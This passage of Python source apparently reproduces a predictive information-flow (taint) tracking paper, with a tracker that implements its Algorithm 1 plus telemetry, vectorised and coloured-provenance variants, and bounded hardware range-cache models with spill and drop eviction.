        m = telemetry.metrics
        self.events = m.counter("tracker.events", "memory events observed")
        self.loads = m.counter("tracker.loads", "load events observed")
        self.stores = m.counter("tracker.stores", "store events observed")
        self.tainted_loads = m.counter(
            "tracker.tainted_loads", "loads that hit tainted state"
        )
        self.taint_ops = m.counter(
            "tracker.taint_ops", "in-window store taint operations"
        )
        self.untaint_ops = m.counter(
            "tracker.untaint_ops", "effective untaint operations"
        )
        self.windows_opened = m.counter(
            "tracker.windows_opened", "tainting windows opened"
        )
        self.windows_closed = m.counter(
            "tracker.windows_closed", "tainting windows closed"
        )
        self.sources = m.counter("tracker.sources", "source ranges registered")
        self.checks = m.counter("tracker.checks", "sink-range taint queries")
        self.tainted_bytes = m.gauge(
            "tracker.tainted_bytes", "current tainted bytes"
        )
        self.range_count = m.gauge(
            "tracker.range_count", "current taint-state range count"
        )


class PIFTTracker:
    """Predictive information-flow tracker over a load/store event stream.

    Usage mirrors the paper's software stack: *register* a sensitive source
    range with :meth:`taint_source`, feed the instruction stream's memory
    events through :meth:`observe` (or :meth:`run`), then *check* a sink
    argument's range with :meth:`check`.

    Args:
        config: the ``(NI, NT, untainting)`` parameters.
        state_factory: builds the per-process taint state; defaults to the
            unbounded software :class:`~repro.core.ranges.RangeSet`.  Pass a
            bounded hardware model from :mod:`repro.core.taint_storage` to
            study capacity effects.
        record_timeline: when True, every taint/untaint operation appends a
            :class:`TimelinePoint` (needed for the Figure 15/16 curves;
            off by default to keep tracking cheap).
        telemetry: optional :class:`~repro.telemetry.Telemetry` hub.  When
            absent (or disabled) the observe loop is untouched — the
            instrumented variants are only *bound over* ``observe`` /
            ``taint_source`` / ``check`` (as instance attributes) when a
            live hub is supplied, so the disabled path costs nothing.
            When active, per-event counters, taint-state gauges, and
            per-mutation JSONL events are recorded.
    """

    #: Execution-strategy discriminator read by the vectorised kernel:
    #: :class:`ColourTracker` flips it so the dense executor runs the
    #: mask-carrying variant.  A class attribute, not config — colour
    #: support changes the state representation, not the parameters.
    _coloured = False

    def __init__(
        self,
        config: PIFTConfig,
        state_factory: StateFactory = RangeSet,
        record_timeline: bool = False,
        telemetry: Optional["Telemetry"] = None,
    ) -> None:
        self.config = config
        self._state_factory = state_factory
        self._states: Dict[int, TaintStateLike] = {}
        self._windows: Dict[int, _WindowState] = {}
        self.stats = TrackerStats()
        #: Consecutive dense-executor mutation-budget bail-outs
        #: (churn hysteresis, :mod:`repro.core.vectorized`).  Pure
        #: execution-strategy state: it never affects semantics, only
        #: which loop runs, and is cleared on reset/restore so a reused
        #: tracker's routing does not depend on a previous run.
        self._dense_churn_streak = 0
        self._record_timeline = record_timeline
        self._tel: Optional["Telemetry"] = None
        self._instruments: Optional[_TrackerInstruments] = None
        if telemetry is not None and telemetry.enabled:
            self._tel = telemetry
            self._instruments = _TrackerInstruments(telemetry)
            self.observe = self._observe_with_telemetry
            self.taint_source = self._taint_source_with_telemetry
            self.check = self._check_with_telemetry

    # -- taint state access ------------------------------------------------

    def state(self, pid: int = 0) -> TaintStateLike:
        """The taint state for process ``pid``, created on first use."""
        if pid not in self._states:
            self._states[pid] = self._state_factory()
            self._windows[pid] = _WindowState()
        return self._states[pid]

    def taint_source(self, address_range: AddressRange, pid: int = 0) -> None:
        """Source registration: mark ``address_range`` sensitive (Figure 3)."""
        self.state(pid).add(address_range)
        self._after_mutation(pid, instruction_index=self.stats.instructions_observed)

    def check(self, address_range: AddressRange, pid: int = 0) -> bool:
        """Sink query: is any byte of ``address_range`` tainted?"""
        return self.state(pid).overlaps(address_range)

    def reset(self) -> None:
        """Clear windows, taint states, and stats for reuse across runs.

        Configuration, state factory, and telemetry wiring are preserved;
        only the accumulated tracking state is discarded, so one tracker
        (and its attached instruments) can serve many runs.
        """
        self._states.clear()
        self._windows.clear()
        self.stats = TrackerStats()
        self._dense_churn_streak = 0

    # -- checkpoint / restore --------------------------------------------

    def snapshot(self) -> dict:
        """JSON-compatible checkpoint of config, taint state, and stats.

        Per-process taint states delegate to their own ``snapshot()``
        (both :class:`~repro.core.ranges.RangeSet` and the bounded
        :class:`~repro.core.taint_storage.BoundedRangeCache` implement
        the pair), so a faulted run can be resumed, and long sweeps can
        checkpoint mid-stream.  Restore with :meth:`restore` on a
        tracker built with the *same* ``state_factory``.
        """
        return {
            "config": {
                "window_size": self.config.window_size,
                "max_propagations": self.config.max_propagations,
                "untainting": self.config.untainting,
            },
            "states": {
                pid: state.snapshot() for pid, state in self._states.items()
            },
            "windows": {
                pid: {
                    "last_tainted_load": window.last_tainted_load,
                    "propagations": window.propagations,
                    "instructions_retired": window.instructions_retired,
                    "telemetry_open": window.telemetry_open,
                }
                for pid, window in self._windows.items()
            },
            "stats": self.stats.as_dict(),
        }

    def restore(self, snapshot: dict) -> None:
        """Restore a :meth:`snapshot` exactly, replacing current state."""
        config = snapshot["config"]
        # ``vectorized`` is an execution-strategy flag, deliberately absent
        # from snapshots (so checkpoints stay comparable across strategies);
        # carry the current tracker's choice over.
        self.config = PIFTConfig(
            window_size=int(config["window_size"]),
            max_propagations=int(config["max_propagations"]),
            untainting=bool(config["untainting"]),
            vectorized=self.config.vectorized,
        )
        self._states = {}
        self._windows = {}
        for pid, payload in snapshot["states"].items():
            state = self._state_factory()
            state.restore(payload)
            self._states[int(pid)] = state
        for pid, payload in snapshot["windows"].items():
            last = payload["last_tainted_load"]
            self._windows[int(pid)] = _WindowState(
                last_tainted_load=None if last is None else int(last),
                propagations=int(payload["propagations"]),
                instructions_retired=int(payload.get("instructions_retired", 0)),
                telemetry_open=bool(payload["telemetry_open"]),
            )
        self.stats = TrackerStats.from_dict(snapshot["stats"])
        # Churn hysteresis is execution-strategy state, deliberately
        # absent from snapshots (like ``vectorized``); start it fresh so
        # routing after a restore does not inherit the donor's history.
        self._dense_churn_streak = 0

    @property
    def instructions_per_pid(self) -> Dict[int, int]:
        """Instructions retired per PID (max index + 1 for each process)."""
        return {
            pid: window.instructions_retired
            for pid, window in self._windows.items()
        }

    @property
    def tainted_bytes(self) -> int:
        return sum(s.total_size for s in self._states.values())

    @property
    def range_count(self) -> int:
        return sum(s.range_count for s in self._states.values())

    # -- Algorithm 1 ---------------------------------------------------------

    def observe(self, event: MemoryAccess) -> None:
        """Process one memory event per Algorithm 1.

        The event's ``instruction_index`` is the per-process instruction
        sequence number *k*; it must be non-decreasing per PID.
        """
        state = self.state(event.pid)
        window = self._windows[event.pid]
        k = event.instruction_index
        if k >= window.instructions_retired:
            self.stats.instructions_observed += k + 1 - window.instructions_retired
            window.instructions_retired = k + 1

        if event.is_load:
            self.stats.loads_observed += 1
            if state.overlaps(event.address_range):
                # Tainted load: start (or restart) the tainting window.
                window.last_tainted_load = k
                window.propagations = 0
                self.stats.tainted_loads += 1
        else:
            self.stats.stores_observed += 1
            # The tainting window is the NI instructions *following* the
            # tainted load (§3.1), so both edges are checked: a store whose
            # per-PID index regressed below the window-opening load (an
            # out-of-order front-end, a counter reset) is outside it.
            in_window = (
                window.last_tainted_load is not None
                and window.last_tainted_load <= k
                and k <= window.last_tainted_load + self.config.window_size
            )
            if in_window and window.propagations < self.config.max_propagations:
                state.add(event.address_range)
                window.propagations += 1
                self.stats.taint_operations += 1
                self._after_mutation(event.pid, k)
            elif self.config.untainting:
                if state.overlaps(event.address_range):
                    state.remove(event.address_range)
                    self.stats.untaint_operations += 1
                    self._after_mutation(event.pid, k)

    def run(self, events: Iterable[MemoryAccess]) -> TrackerStats:
        """Feed a whole event stream through the batch fast path."""
        self.observe_batch(events)
        return self.stats

    # -- batch fast path --------------------------------------------------

    def observe_batch(self, events: Iterable[MemoryAccess]) -> None:
        """Process a whole event run with per-event overhead hoisted out.

        Semantically identical to calling :meth:`observe` per event
        (parity-tested, ``tests/property/test_batch_parity.py``), but the
        attribute lookups, per-PID dict probes, and window-bound reads are
        lifted out of the loop, which makes replay-heavy ``(NI, NT)``
        sweeps measurably faster.  With a live telemetry hub attached the
        per-event instrumented path is used instead, so event streams and
        counters stay exact.
        """
        if "observe" in self.__dict__:
            # Telemetry (or another shadow) is bound over observe; the
            # batch loop would bypass it.  Fall back to per-event calls.
            observe = self.observe
            if isinstance(events, EventColumns):
                events = events.events
            for event in events:
                observe(event)
            return
        if isinstance(events, EventTrace):
            columns = events.columns()
        elif isinstance(events, EventColumns):
            columns = events
        else:
            columns = EventColumns.from_events(events)
        self.observe_columns(columns)

    def observe_columns(
        self, columns: EventColumns, start: int = 0, stop: Optional[int] = None
    ) -> None:
        """Algorithm 1 over a pre-encoded column slice (``[start, stop)``).

        Dispatches between three observationally identical strategies
        (parity-tested in ``tests/property/test_batch_parity.py``):

        * a live telemetry hub binds a shadow over ``observe`` — fall
          back to per-event calls so instrumentation stays exact;
        * the vectorised pre-filter kernel (:mod:`repro.core.vectorized`)
          when ``config.vectorized`` is on, the slice is long enough to
          amortise the numpy setup, and the taint backend is the
          unbounded :class:`~repro.core.ranges.RangeSet` (bounded
          hardware models mutate on queries/eviction, so skipping their
          calls would change behaviour);
        * the scalar loop (:meth:`observe_columns_scalar`) otherwise.
        """
        if "observe" in self.__dict__:
            observe = self.observe
            for event in columns.events[start:stop]:
                observe(event)
            return
        if stop is None:
            stop = len(columns)
        if (
            self.config.vectorized
            and stop - start >= _VECTORIZED_MIN_EVENTS
            and self._state_factory is RangeSet
            and vectorized.HAVE_NUMPY
        ):
            vectorized.observe_columns(self, columns, start, stop)
            return
        self.observe_columns_scalar(columns, start, stop)

    def observe_columns_vectorized(
        self, columns: EventColumns, start: int = 0, stop: Optional[int] = None
    ) -> None:
        """Force the numpy pre-filter kernel regardless of slice length.

        Differential-test / benchmark hook; requires numpy and
        :class:`~repro.core.ranges.RangeSet`-backed taint states.
        """
        if stop is None:
            stop = len(columns)
        vectorized.observe_columns(self, columns, start, stop)

    def observe_columns_scalar(
        self, columns: EventColumns, start: int = 0, stop: Optional[int] = None
    ) -> None:
        """The exact scalar replay loop over a column slice.

        One Python frame for the whole slice, locals for the config
        bounds and stats counters, and taint-state methods re-bound only
        on PID switches.  Mutation bookkeeping (high-water marks,
        optional timeline) matches :meth:`_after_mutation` exactly.  The
        vectorised kernel drops into this loop around relevant events.
        """
        if "observe" in self.__dict__:
            observe = self.observe
            for event in columns.events[start:stop]:
                observe(event)
            return
        if stop is None:
            stop = len(columns)
        window_size = self.config.window_size
        max_propagations = self.config.max_propagations
        untainting = self.config.untainting
        stats = self.stats
        states = self._states
        windows = self._windows
        state_values = states.values()
        record_timeline = self._record_timeline
        timeline = stats.timeline
        is_loads = columns.is_loads
        ranges = columns.ranges
        indices = columns.indices
        pids = columns.pids
        loads = stats.loads_observed
        stores = stats.stores_observed
        tainted_loads = stats.tainted_loads
        taints = stats.taint_operations
        untaints = stats.untaint_operations
        instructions = stats.instructions_observed
        max_tainted = stats.max_tainted_bytes
        max_ranges = stats.max_range_count
        current_pid: Optional[int] = None
        window: _WindowState = None  # type: ignore[assignment]
        overlaps = add = remove = None
        try:
            for i in range(start, stop):
                pid = pids[i]
                if pid != current_pid:
                    state = states.get(pid)
                    if state is None:
                        state = states[pid] = self._state_factory()
                        windows[pid] = _WindowState()
                    window = windows[pid]
                    overlaps = state.overlaps
                    add = state.add
                    remove = state.remove
                    current_pid = pid
                k = indices[i]
                if k >= window.instructions_retired:
                    instructions += k + 1 - window.instructions_retired
                    window.instructions_retired = k + 1
                address_range = ranges[i]
                if is_loads[i]:
                    loads += 1
                    if overlaps(address_range):
                        window.last_tainted_load = k
                        window.propagations = 0
                        tainted_loads += 1
                    continue
                stores += 1
                last = window.last_tainted_load
                if (
                    last is not None
                    and last <= k <= last + window_size
                    and window.propagations < max_propagations
                ):
                    add(address_range)
                    window.propagations += 1
                    taints += 1
                elif untainting and overlaps(address_range):
                    remove(address_range)
                    untaints += 1
                else:
                    continue
                size = sum(s.total_size for s in state_values)
                count = sum(s.range_count for s in state_values)
                if size > max_tainted:
                    max_tainted = size
                if count > max_ranges:
                    max_ranges = count
                if record_timeline:
                    timeline.append(
                        TimelinePoint(
                            instruction_index=k,
                            tainted_bytes=size,
                            range_count=count,
                            cumulative_operations=taints + untaints,
                        )
                    )
        finally:
            stats.loads_observed = loads
            stats.stores_observed = stores
            stats.tainted_loads = tainted_loads
            stats.taint_operations = taints
            stats.untaint_operations = untaints
            stats.instructions_observed = instructions
            stats.max_tainted_bytes = max_tainted
            stats.max_range_count = max_ranges

    # -- telemetry shadow methods ---------------------------------------
    #
    # Bound over the plain methods (as instance attributes) only when a
    # live telemetry hub is attached.  They delegate to the unmodified
    # Algorithm-1 code above and derive what happened from the stats
    # deltas, so the algorithm exists exactly once and the disabled hot
    # path carries no telemetry branches at all.

    def _observe_with_telemetry(self, event: MemoryAccess) -> None:
        stats = self.stats
        before_tainted_loads = stats.tainted_loads
        before_taints = stats.taint_operations
        before_untaints = stats.untaint_operations
        type(self).observe(self, event)
        ins = self._instruments
        ins.events.inc()
        k = event.instruction_index
        window = self._windows[event.pid]
        if event.is_load:
            ins.loads.inc()
            if stats.tainted_loads != before_tainted_loads:
                ins.tainted_loads.inc()
                if not window.telemetry_open:
                    window.telemetry_open = True
                    ins.windows_opened.inc()
                    self._tel.event(
                        "window_open",
                        pid=event.pid,
                        index=k,
                        start=event.address_range.start,
                        size=event.address_range.size,
                    )
            return
        ins.stores.inc()
        mutated = True
        if stats.taint_operations != before_taints:
            ins.taint_ops.inc()
            self._tel.event(
                "taint",
                pid=event.pid,
                index=k,
                start=event.address_range.start,
                size=event.address_range.size,
                propagation=window.propagations,
            )
        elif stats.untaint_operations != before_untaints:
            ins.untaint_ops.inc()
            self._tel.event(
                "untaint",
                pid=event.pid,
                index=k,
                start=event.address_range.start,
                size=event.address_range.size,
            )
        else:
            mutated = False
        in_window = (
            window.last_tainted_load is not None
            and window.last_tainted_load <= k
            and k <= window.last_tainted_load + self.config.window_size
        )
        if not in_window and window.telemetry_open:
            # First out-of-window store after a live window: close it.  (A
            # window can also lapse with no further store; such windows
            # are only closed — and counted — when store traffic resumes.)
            window.telemetry_open = False
            ins.windows_closed.inc()
            self._tel.event(
                "window_close",
                pid=event.pid,
                index=k,
                opened_at=window.last_tainted_load,
                propagations=window.propagations,
            )
        if mutated:
            ins.tainted_bytes.set(self.tainted_bytes)
            ins.range_count.set(self.range_count)

    def _taint_source_with_telemetry(
        self, address_range: AddressRange, pid: int = 0, **kwargs
    ) -> None:
        # Extra keyword arguments (the coloured tracker's ``colour``)
        # pass straight through to the real registration.
        type(self).taint_source(self, address_range, pid=pid, **kwargs)
        ins = self._instruments
        ins.sources.inc()
        ins.tainted_bytes.set(self.tainted_bytes)
        ins.range_count.set(self.range_count)
        self._tel.event(
            "source_taint",
            pid=pid,
            index=self.stats.instructions_observed,
            start=address_range.start,
            size=address_range.size,
        )

    def _check_with_telemetry(
        self, address_range: AddressRange, pid: int = 0
    ) -> bool:
        self._instruments.checks.inc()
        return type(self).check(self, address_range, pid=pid)

    # -- bookkeeping -----------------------------------------------------

    def _after_mutation(self, pid: int, instruction_index: int) -> None:
        size = self.tainted_bytes
        count = self.range_count
        if size > self.stats.max_tainted_bytes:
            self.stats.max_tainted_bytes = size
        if count > self.stats.max_range_count:
            self.stats.max_range_count = count
        if self._record_timeline:
            self.stats.timeline.append(
                TimelinePoint(
                    instruction_index=instruction_index,
                    tainted_bytes=size,
                    range_count=count,
                    cumulative_operations=self.stats.total_operations,
                )
            )


class ColourTracker(PIFTTracker):
    """Algorithm 1 with per-source provenance labels ("colours").

    Sources register with a colour name (:meth:`taint_source`'s
    ``colour``); taint state is a :class:`~repro.core.colours.ColourRangeSet`
    whose intervals carry 64-bit colour masks.  A tainted load's window
    carries the OR of every overlapped range's mask; in-window stores
    taint their target with that window mask; untainting removes bytes
    wholesale — so the tainted/untainted *classification* of every event
    never consults masks, only coverage.  The union projection (any
    non-zero mask == tainted) of a coloured run is therefore
    byte-identical to a plain :class:`PIFTTracker` on the same trace:
    identical verdicts and counters, with ``max_range_count`` the single
    permitted exception under multiple live colours (equal-mask-only
    coalescing can keep more intervals).  With one registered colour,
    every counter — including ``max_range_count`` — is identical
    (``tests/property/test_colour_parity.py``).

    Sink queries gain :meth:`check_mask` / :meth:`check_colours` for
    attribution; the inherited boolean :meth:`check` is unchanged.
    """

    _coloured = True

    def __init__(
        self,
        config: PIFTConfig,
        colours: Optional[ColourSpace] = None,
        record_timeline: bool = False,
        telemetry: Optional["Telemetry"] = None,
    ) -> None:
        super().__init__(
            config,
            state_factory=ColourRangeSet,
            record_timeline=record_timeline,
            telemetry=telemetry,
        )
        self.colours = colours if colours is not None else ColourSpace()

    # -- labelled sources and sink queries -------------------------------

    def taint_source(
        self,
        address_range: AddressRange,
        pid: int = 0,
        colour: Optional[str] = None,
    ) -> None:
        """Source registration carrying a colour label.

        ``colour`` defaults to ``"source"`` so colour-unaware callers
        (the base class's API) still get a well-formed single-colour run.
        """
        mask = self.colours.register("source" if colour is None else colour)
        self.state(pid).add(address_range, mask)
        self._after_mutation(
            pid, instruction_index=self.stats.instructions_observed
        )

    def check_mask(self, address_range: AddressRange, pid: int = 0) -> int:
        """Sink query: OR of the colour masks overlapping ``address_range``."""
        return self.state(pid).mask_overlapping(address_range)

    def check_colours(
        self, address_range: AddressRange, pid: int = 0
    ) -> Tuple[str, ...]:
        """Sink query: contributing source names, in registration order."""
        return self.colours.names_for(
            self.check_mask(address_range, pid=pid)
        )

    # -- Algorithm 1, mask-carrying --------------------------------------

    def observe(self, event: MemoryAccess) -> None:
        """Per-event Algorithm 1; identical control flow to the base
        tracker, with the window additionally carrying the colour mask of
        its opening load and in-window stores tainting with it."""
        state = self.state(event.pid)
        window = self._windows[event.pid]
        k = event.instruction_index
        if k >= window.instructions_retired:
            self.stats.instructions_observed += (
                k + 1 - window.instructions_retired
            )
            window.instructions_retired = k + 1

        if event.is_load:
            self.stats.loads_observed += 1
            mask = state.mask_overlapping(event.address_range)
            if mask:
                window.last_tainted_load = k
                window.propagations = 0
                window.colour_mask = mask
                self.stats.tainted_loads += 1
        else:
            self.stats.stores_observed += 1
            in_window = (
                window.last_tainted_load is not None
                and window.last_tainted_load <= k
                and k <= window.last_tainted_load + self.config.window_size
            )
            if in_window and window.propagations < self.config.max_propagations:
                state.add(event.address_range, window.colour_mask)
                window.propagations += 1
                self.stats.taint_operations += 1
                self._after_mutation(event.pid, k)
            elif self.config.untainting:
                if state.overlaps(event.address_range):
                    state.remove(event.address_range)
                    self.stats.untaint_operations += 1
                    self._after_mutation(event.pid, k)

    def observe_columns(
        self, columns: EventColumns, start: int = 0, stop: Optional[int] = None
    ) -> None:
        """Same three-way dispatch as the base tracker, but the kernel
        gate requires the coloured state factory (the kernel selects its
        mask-carrying dense variant via :attr:`_coloured`)."""
        if "observe" in self.__dict__:
            observe = self.observe
            for event in columns.events[start:stop]:
                observe(event)
            return
        if stop is None:
            stop = len(columns)
        if (
            self.config.vectorized
            and stop - start >= _VECTORIZED_MIN_EVENTS
            and self._state_factory is ColourRangeSet
            and vectorized.HAVE_NUMPY
        ):
            vectorized.observe_columns(self, columns, start, stop)
            return
        self.observe_columns_scalar(columns, start, stop)

    def observe_columns_scalar(
        self, columns: EventColumns, start: int = 0, stop: Optional[int] = None
    ) -> None:
        """The exact coloured scalar loop (the base loop plus mask
        lookup/carry; same hoisting and bookkeeping discipline)."""
        if "observe" in self.__dict__:
            observe = self.observe
            for event in columns.events[start:stop]:
                observe(event)
            return
        if stop is None:
            stop = len(columns)
        window_size = self.config.window_size
        max_propagations = self.config.max_propagations
        untainting = self.config.untainting
        stats = self.stats
        states = self._states
        windows = self._windows
        state_values = states.values()
        record_timeline = self._record_timeline
        timeline = stats.timeline
        is_loads = columns.is_loads
        ranges = columns.ranges
        indices = columns.indices
        pids = columns.pids
        loads = stats.loads_observed
        stores = stats.stores_observed
        tainted_loads = stats.tainted_loads
        taints = stats.taint_operations
        untaints = stats.untaint_operations
        instructions = stats.instructions_observed
        max_tainted = stats.max_tainted_bytes
        max_ranges = stats.max_range_count
        current_pid: Optional[int] = None
        window: _WindowState = None  # type: ignore[assignment]
        mask_overlapping = overlaps = add = remove = None
        try:
            for i in range(start, stop):
                pid = pids[i]
                if pid != current_pid:
                    state = states.get(pid)
                    if state is None:
                        state = states[pid] = self._state_factory()
                        windows[pid] = _WindowState()
                    window = windows[pid]
                    mask_overlapping = state.mask_overlapping
                    overlaps = state.overlaps
                    add = state.add
                    remove = state.remove
                    current_pid = pid
                k = indices[i]
                if k >= window.instructions_retired:
                    instructions += k + 1 - window.instructions_retired
                    window.instructions_retired = k + 1
                address_range = ranges[i]
                if is_loads[i]:
                    loads += 1
                    mask = mask_overlapping(address_range)
                    if mask:
                        window.last_tainted_load = k
                        window.propagations = 0
                        window.colour_mask = mask
                        tainted_loads += 1
                    continue
                stores += 1
                last = window.last_tainted_load
                if (
                    last is not None
                    and last <= k <= last + window_size
                    and window.propagations < max_propagations
                ):
                    add(address_range, window.colour_mask)
                    window.propagations += 1
                    taints += 1
                elif untainting and overlaps(address_range):
                    remove(address_range)
                    untaints += 1
                else:
                    continue
                size = sum(s.total_size for s in state_values)
                count = sum(s.range_count for s in state_values)
                if size > max_tainted:
                    max_tainted = size
                if count > max_ranges:
                    max_ranges = count
                if record_timeline:
                    timeline.append(
                        TimelinePoint(
                            instruction_index=k,
                            tainted_bytes=size,
                            range_count=count,
                            cumulative_operations=taints + untaints,
                        )
                    )
        finally:
            stats.loads_observed = loads
            stats.stores_observed = stores
            stats.tainted_loads = tainted_loads
            stats.taint_operations = taints
            stats.untaint_operations = untaints
            stats.instructions_observed = instructions
            stats.max_tainted_bytes = max_tainted
            stats.max_range_count = max_ranges

    # -- checkpoint / restore --------------------------------------------

    def snapshot(self) -> dict:
        snap = super().snapshot()
        for pid, window in self._windows.items():
            snap["windows"][pid]["colour_mask"] = window.colour_mask
        snap["colours"] = self.colours.snapshot()
        return snap

    def restore(self, snapshot: dict) -> None:
        super().restore(snapshot)
        for pid, payload in snapshot["windows"].items():
            window = self._windows[int(pid)]
            # Snapshots from a plain tracker carry no mask; a live window
            # restored from one defaults to the first colour so in-window
            # adds stay well-formed.
            default = 1 if window.last_tainted_load is not None else 0
            window.colour_mask = int(payload.get("colour_mask", default))
        if "colours" in snapshot:
            self.colours = ColourSpace.from_snapshot(snapshot["colours"])


def track_trace(
    events: Iterable[MemoryAccess],
    sources: Iterable[Tuple[AddressRange, int]],
    config: PIFTConfig,
    record_timeline: bool = False,
    telemetry: Optional["Telemetry"] = None,
) -> PIFTTracker:
    """One-shot helper: taint ``sources`` (range, pid pairs), run ``events``."""
    tracker = PIFTTracker(
        config, record_timeline=record_timeline, telemetry=telemetry
    )
    for address_range, pid in sources:
        tracker.taint_source(address_range, pid=pid)
    tracker.run(events)
    return tracker

"""Hardware taint-storage models — the paper's §3.3 design space.

The PIFT hardware module keeps tainted ranges in a *cache of ranges*
(Figure 6): each entry holds a process-specific ID, start and end address,
and a valid bit; a lookup is a parallel overlap match.  The paper sizes it
as 12 bytes/entry (4B start + 4B end + 4B PID), so a 32KB on-chip memory
holds ~2730 ranges — or 8 bytes/entry (4096 ranges) if entries are written
back on context switch and need no PID tag.

When the storage fills, the paper offers two policies:

* **spill** — evict an entry to a secondary storage in main memory using a
  replacement policy such as LRU (like an ordinary cache; misses cost
  time but no accuracy), or
* **drop** — discard the entry (no time cost, but the lost range can turn
  into a false negative).

An alternative layout taints at fixed ``2**r``-byte granularity, storing
only the ``32 - r`` most significant address bits: smaller entries, faster
compares, but over-tainting (possible false positives).

All models implement the tracker's ``TaintStateLike`` surface, so any can
be plugged into :class:`repro.core.tracker.PIFTTracker` via its
``state_factory``.
"""

from __future__ import annotations

import dataclasses
import enum
from dataclasses import dataclass, field
from typing import Dict, Optional, Tuple

from repro.core.ranges import AddressRange, RangeSet

#: Bytes per range entry when each entry is tagged with a PID (§3.3).
ENTRY_BYTES_WITH_PID = 12

#: Bytes per entry when taint state is written back at context switches.
ENTRY_BYTES_WITHOUT_PID = 8


def entry_capacity(storage_bytes: int, entry_bytes: int = ENTRY_BYTES_WITH_PID) -> int:
    """How many range entries fit in an on-chip memory of ``storage_bytes``.

    Reproduces the paper's arithmetic: ``entry_capacity(32 * 1024)`` is 2730
    with PID tags and ``entry_capacity(32 * 1024, ENTRY_BYTES_WITHOUT_PID)``
    is 4096 without.
    """
    if storage_bytes < entry_bytes:
        raise ValueError(
            f"storage of {storage_bytes}B cannot hold a {entry_bytes}B entry"
        )
    return storage_bytes // entry_bytes


class EvictionPolicy(enum.Enum):
    """What to do with the LRU entry when the range cache is full."""

    SPILL = "spill"  # write back to secondary storage in main memory
    DROP = "drop"  # discard; may lose a sensitive flow (false negative)


@dataclass
class StorageStats:
    """Operation counters for one storage instance."""

    lookups: int = 0
    hits: int = 0
    secondary_hits: int = 0
    evictions: int = 0
    dropped_ranges: int = 0
    dropped_bytes: int = 0

    @property
    def misses(self) -> int:
        return self.lookups - self.hits - self.secondary_hits


class BoundedRangeCache:
    """A capacity-limited cache of tainted ranges with LRU replacement.

    Args:
        capacity_entries: maximum number of distinct ranges held on chip.
        policy: :class:`EvictionPolicy` — spill to secondary storage or drop.
        granularity_bits: 0 keeps arbitrary byte-precise ranges (the paper's
            primary design); ``r > 0`` taints whole ``2**r``-byte blocks,
            modelling the fixed-granularity alternative.
    """

    def __init__(
        self,
        capacity_entries: int,
        policy: EvictionPolicy = EvictionPolicy.SPILL,
        granularity_bits: int = 0,
    ) -> None:
        if capacity_entries < 1:
            raise ValueError("capacity_entries must be >= 1")
        if granularity_bits < 0:
            raise ValueError("granularity_bits must be >= 0")
        self.capacity_entries = capacity_entries
        self.policy = policy
        self.granularity_bits = granularity_bits
        self.stats = StorageStats()
        self._cache = RangeSet()
        self._secondary = RangeSet()
        self._lru: Dict[Tuple[int, int], int] = {}
        self._clock = 0

    # -- TaintStateLike surface -------------------------------------------

    def overlaps(self, query: AddressRange) -> bool:
        """Parallel lookup against on-chip entries, then secondary storage."""
        self.stats.lookups += 1
        hits = self._cache.overlapping(query)
        if hits:
            self.stats.hits += 1
            self._touch(hits[0])
            return True
        if self.policy is EvictionPolicy.SPILL and self._secondary.overlaps(query):
            # A 'cache miss' serviced from main memory: promote the range.
            self.stats.secondary_hits += 1
            spilled = self._secondary.overlapping(query)[0]
            self._secondary.remove(spilled)
            self._insert(spilled)
            return True
        return False

    def add(self, item: AddressRange) -> None:
        item = self._quantize_out(item)
        # The new range may also subsume spilled state; fold it back in so
        # on-chip and secondary views never disagree about the same bytes.
        if self.policy is EvictionPolicy.SPILL:
            self._secondary.remove(item)
        self._insert(item)

    def remove(self, item: AddressRange) -> None:
        quantized = self._quantize_in(item)
        if quantized is None:
            return
        for stale in self._cache.overlapping(quantized):
            self._lru.pop((stale.start, stale.end), None)
        self._cache.remove(quantized)
        for survivor in self._cache.overlapping(
            AddressRange(
                max(quantized.start - 1, 0) if quantized.start else 0,
                quantized.end + 1,
            )
        ):
            self._touch(survivor)
        self._secondary.remove(quantized)
        # Untainting the middle of an entry splits it into two: a full
        # cache must evict to stay within its entry budget.
        while self._cache.range_count > self.capacity_entries:
            self._evict_one()

    @property
    def total_size(self) -> int:
        return self._cache.total_size + self._secondary.total_size

    @property
    def range_count(self) -> int:
        return self._cache.range_count + self._secondary.range_count

    # -- introspection ------------------------------------------------------

    @property
    def on_chip_range_count(self) -> int:
        return self._cache.range_count

    @property
    def spilled_range_count(self) -> int:
        return self._secondary.range_count

    # -- fault injection hooks ----------------------------------------------

    def drop_nth_entry(self, n: int) -> Optional[AddressRange]:
        """Discard the ``n``-th on-chip entry (modulo size); returns it.

        Models a spurious firing of the §3.3 drop policy (single-event
        upset on a valid bit): the range is lost outright — it does
        *not* reach secondary storage — and is accounted as a dropped
        range.  Returns ``None`` when nothing is resident on chip.
        """
        entries = self._cache.overlapping(
            AddressRange(0, (1 << 62))
        )  # all on-chip entries, sorted
        if not entries:
            return None
        victim = entries[n % len(entries)]
        self._lru.pop((victim.start, victim.end), None)
        self._cache.remove(victim)
        self.stats.dropped_ranges += 1
        self.stats.dropped_bytes += victim.size
        return victim

    def eviction_storm(self, count: int) -> int:
        """Evict up to ``count`` LRU entries at once; returns how many.

        Models burst write-back pressure (e.g. a context switch forcing
        the range cache out).  Entries follow the configured policy:
        spilled to secondary storage, or dropped.
        """
        evicted = 0
        while evicted < count and self._cache.range_count:
            self._evict_one()
            evicted += 1
        return evicted

    # -- checkpoint / restore ------------------------------------------------

    def snapshot(self) -> dict:
        """JSON-compatible checkpoint of cache, secondary, LRU, and stats."""
        return {
            "capacity_entries": self.capacity_entries,
            "policy": self.policy.value,
            "granularity_bits": self.granularity_bits,
            "cache": self._cache.snapshot(),
            "secondary": self._secondary.snapshot(),
            "lru": [
                [start, end, clock]
                for (start, end), clock in self._lru.items()
            ],
            "clock": self._clock,
            "stats": dataclasses.asdict(self.stats),
        }

    def restore(self, snapshot: dict) -> None:
        """Restore a :meth:`snapshot` exactly (geometry must match)."""
        if (
            int(snapshot["capacity_entries"]) != self.capacity_entries
            or snapshot["policy"] != self.policy.value
            or int(snapshot["granularity_bits"]) != self.granularity_bits
        ):
            raise ValueError(
                "snapshot geometry (capacity/policy/granularity) does not "
                "match this storage instance"
            )
        self._cache.restore(snapshot["cache"])
        self._secondary.restore(snapshot["secondary"])
        self._lru = {
            (int(start), int(end)): int(clock)
            for start, end, clock in snapshot["lru"]
        }
        self._clock = int(snapshot["clock"])
        self.stats = StorageStats(**{
            key: int(value) for key, value in snapshot["stats"].items()
        })

    # -- internals --------------------------------------------------------

    def _quantize_out(self, item: AddressRange) -> AddressRange:
        """Expand to whole blocks (over-taint) under fixed granularity."""
        if self.granularity_bits:
